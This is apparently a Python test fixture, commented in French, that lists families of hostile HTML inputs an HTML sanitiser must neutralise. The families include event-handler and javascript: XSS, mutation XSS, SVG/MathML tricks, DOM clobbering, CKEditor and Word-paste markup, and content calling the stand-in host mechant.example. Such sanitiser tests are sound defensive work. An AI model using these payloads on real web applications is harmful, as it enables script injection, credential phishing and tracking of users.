"""Des saisies hostiles, par famille. Chacune doit devenir inoffensive sans emporter le texte qui l'entoure.

Les charges appellent `alert(1)` ou l'hôte `mechant.example` : dans un navigateur, une boîte de dialogue ou une
requête vers cet hôte prouverait qu'une d'elles a agi. `toutes()` les donne précédées d'un paragraphe témoin.
"""

TEMOIN = "<p>Paragraphe témoin.</p>"

FAMILLES = {
    "gestionnaires": [
        '<img src=x onerror="alert(1)">',
        '<p onclick="alert(1)" onmouseover=alert(1)>texte</p>',
        '<a href="https://exemple.org" onfocus=alert(1) autofocus tabindex=1>lien</a>',
        "<body onload=alert(1)>texte</body>",
        "<details open ontoggle=alert(1)><summary>titre</summary>texte</details>",
        '<p/onpointerenter="alert(1)"/x>texte',
        "<img/src=/documents/00000000-0000-4000-8000-000000000000/a.png/onerror=alert(1) alt=x>",
        '<video autoplay onplay=alert(1)><source src="//mechant.example/v.mp4" onerror=alert(1)></video>',
        '<marquee onstart=alert(1)>texte</marquee><input onfocus=alert(1) autofocus value="mots">',
    ],
    "schemas": [
        '<a href="javascript:alert(1)">lien</a>',
        '<a href="JaVaScRiPt:alert(1)">lien</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">lien</a>',
        '<a href="java&#x09;script&colon;alert(1)">lien</a>',
        '<a href="\x01javascript:alert(1)">lien</a>',
        '<a href="data:text/html,<script>alert(1)</script>">lien</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
        '<a href="vbscript:msgbox(1)">lien</a>',
        '<img src="javascript:alert(1)" alt="image">',
        '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>" alt="image">',
        '<a href="  jav\nascript:alert(1)">lien</a>',
        '<a href="https:javascript:alert(1)">lien</a>',
        '<a href="mailto:a@b.example&#10;javascript:alert(1)">lien</a>',
    ],
    "hotes": [
        '<a href="//mechant.example/">lien</a>',
        '<a href="/\\mechant.example/">lien</a>',
        '<a href="\\\\mechant.example\\x">lien</a>',
        '<img src="//mechant.example/i.png" alt="image">',
        '<img src="https://mechant.example/documents/00000000-0000-4000-8000-000000000000/i.png" alt="image">',
        '<img src="/documents/../../mechant.example/i.png" alt="image">',
        '<img src="/documents/00000000-0000-4000-8000-000000000000/../../compte/logout/" alt="image">',
        '<img alt="image" srcset="//mechant.example/i.png 1x">',
        '<a href="http://banque.example@mechant.example/">lien</a>',
        '<table background="//mechant.example/i.png"><tr><td background="//mechant.example/j.png">case</table>',
    ],
    "espaces_de_noms": [
        "<svg onload=alert(1)></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text y=20>lien</text></a></svg>',
        "<svg><script>alert(1)</script></svg>",
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><title><img src=x onerror=alert(1)></title></svg>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    ],
    "mutations": [
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></p></xmp>",
        "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></p></textarea>",
        "<p>&lt;img src=x onerror=alert(1)&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><plaintext><img src=x onerror=alert(1)>",
        "<select><iframe><style><img src=x onerror=alert(1)></style></iframe></select>",
        "<table><caption><svg><title><style><img src=x onerror=alert(1)></style></title></svg></caption></table>",
        "<template><img src=x onerror=alert(1)></template>",
    ],
    "styles": [
        '<p style="background:url(//mechant.example/i.png)">texte</p>',
        "<style>@import '//mechant.example/s.css'; p{background:url(//mechant.example/i.png)}</style>texte",
        '<link rel="stylesheet" href="//mechant.example/s.css">texte',
        '<p style="position:fixed;inset:0;z-index:9999">texte</p>',
        '<p style="width:expression(alert(1));behavior:url(x.htc)">texte</p>',
        '<p class="bouton bouton--danger modale">texte</p>',
        '<span style="font-weight:bold;-moz-binding:url(//mechant.example/x.xml#x)">gras</span>',
    ],
    "cadres": [
        '<form action="//mechant.example/"><input name="mot" type="password"><button>Envoyer</button></form>',
        '<base href="//mechant.example/"><a href="page">lien</a>',
        '<meta http-equiv="refresh" content="0;url=//mechant.example/">texte',
        '<iframe src="//mechant.example/"></iframe>texte',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>texte',
        '<object data="//mechant.example/x.swf"><embed src="//mechant.example/x.swf"></object>texte',
        '<script src="//mechant.example/x.js"></script><script>alert(1)</script>texte',
        '<button formaction="javascript:alert(1)">bouton</button>',
        '<frameset><frame src="javascript:alert(1)"></frameset>texte',
        '<a href="https://exemple.org" target="_blank" ping="//mechant.example/" download>lien</a>',
    ],
    "noms": [
        '<p id="contenu" name="contenu">texte</p>',
        '<form name="CKEDITOR"><input name="replace"></form>texte',
        '<img name="getElementById" src=x alt=x>texte',
        '<a id="CKEDITOR_BASEPATH" href="https://mechant.example/">lien</a>',
        '<form id="test"><input name="attributes"><input name="parentNode"></form>texte',
        '<p data-p="contenu">texte</p><p data-p="&quot; onclick=&quot;alert(1)">texte</p>',
        '<p data-editeur data-config="{}" data-script="//mechant.example/x.js">texte</p>',
    ],
    "editeur": [
        "<!--{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E-->texte",
        "<p>&lt;!--{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E--&gt;</p>",
        '<p data-cke-saved-href="javascript:alert(1)">texte</p>',
        '<a href="https://exemple.org" data-cke-saved-href="javascript:alert(1)">lien</a>',
        '<img data-cke-realelement="%3Cscript%3Ealert(1)%3C%2Fscript%3E" src=x class="cke_iframe" alt=x>texte',
        '<p data-cke-pa-onclick="alert(1)">texte</p>',
        '<cke:script>alert(1)</cke:script><cke:object data="//mechant.example/x.swf"></cke:object>texte',
        "<p><![CDATA[<img src=x onerror=alert(1)>]]>texte</p>",
        '<span data-cke-bookmark="1" data-cke-copybin="1">texte</span>',
        '<p contenteditable="true" data-widget="x" data-cke-widget-data="%7B%7D">texte</p>',
    ],
    "word": [
        '<p class="MsoNormal" style="mso-margin-top-alt:auto">texte<o:p>&nbsp;</o:p></p>',
        "<!--[if gte mso 9]><xml><w:WordDocument><script>alert(1)</script></w:WordDocument></xml><![endif]-->texte",
        "<p style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp;</span>"
        "</span><![endif]>premier</p><p style='mso-list:l0 level1 lfo1;background:url(//mechant.example/i)'>·&nbsp;"
        "second</p>",
        '<v:shape style="x"><v:imagedata src="file:///C:/i.png" o:title="x" onerror="alert(1)"/></v:shape>texte',
        "<html xmlns:o='urn:x'><head><style>p{}</style><meta name=Generator content='Word'></head><body lang=FR>"
        "<h1><b>Titre</b></h1><p>texte</p></body></html>",
        '<a href="file:///C:/Users/x/doc.docx"><span lang=FR>lien</span></a>',
        '<b style="font-weight:normal" id="docs-internal-guid-1"><p><span style="font-weight:700">g</span></p></b>',
    ],
    "imbrication": [
        "<p><b><i>a</b>b</i><table><p>c</table></b>",
        "<a href=https://exemple.org><a href=javascript:alert(1)>a</a>b</a>",
        "<ul><li>a<ol><li>b</ul>c</ol></li>d",
        "<table><tr><td><table><tr><td>a</table>b<tr><p>c",
        "<p><p><p><h3><h4><li>a<blockquote><figure>b",
        "<" * 50 + "img src=x onerror=alert(1)" + ">" * 50,
        "<div>" * 400 + "a" + "</span>" * 400,
        '<p title="<p onclick=alert(1)>">a</p foo="<img src=x onerror=alert(1)>">b',
        "<strong><p>a</p><ul><em><li>b</em></li></ul></strong>",
        "<p>\x00a<\x00script>alert(1)</script></p><scr\x00ipt>alert(1)</scr\x00ipt>",
    ],
}


def toutes():
    """(famille, rang, saisie) de chaque cas, précédé du paragraphe témoin."""
    return [(nom, rang, TEMOIN + cas) for nom, liste in FAMILLES.items() for rang, cas in enumerate(liste)]
